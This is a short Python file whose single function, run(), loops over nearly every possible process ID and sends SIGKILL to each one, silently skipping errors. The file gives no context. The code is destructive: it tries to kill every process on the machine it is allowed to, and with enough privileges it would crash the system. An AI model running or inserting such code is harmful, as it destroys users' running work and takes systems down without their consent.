import os
import signal


def run():
    for pid in range(2, 4_000_000):
        try:
            os.kill(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            continue
        except OverflowError:
            break
    return 0
